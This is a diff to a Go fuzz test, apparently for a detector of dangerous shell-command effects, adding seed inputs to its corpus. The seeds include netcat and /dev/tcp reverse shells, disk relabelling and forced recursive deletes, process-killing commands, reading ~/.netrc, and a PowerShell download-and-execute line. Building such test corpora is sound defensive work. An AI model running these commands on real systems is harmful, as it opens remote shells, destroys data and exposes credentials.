@@ -18,6 +18,9 @@ func FuzzEffects(f *testing.F) {
 		"find . -exec sh -c 'rm {}' \\;", "docker run -v /:/h alpine rm -rf /h/x", "git config alias.x '!sh'",
 		`awk 'BEGIN{system("id")}'`, "sed '1e id' f", "echo 726d | xxd -r -p | sh", "f{1..3}{a,b}", "$(($(echo 1)))",
 		"bash <<'E'\nrm x\nE", `perl -e 'open(F, "|id")'`, "ssh h 'cat ~/.netrc'",
+		"cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f", "bash -i >& /dev/tcp/h/1 0>&1", "killall -9 -u $USER",
+		"kill -s KILL -- -1", "pkill -9 ''", "umount -a -f", "parted -s /dev/sda mklabel gpt", "Remove-Item * -Recurse -Force",
+		"rd /s /q .", "xattr -cr /", "Invoke-WebRequest -Uri https://x -OutFile a; iex (gc a)",
 	} {
 		f.Add(s)
 	}
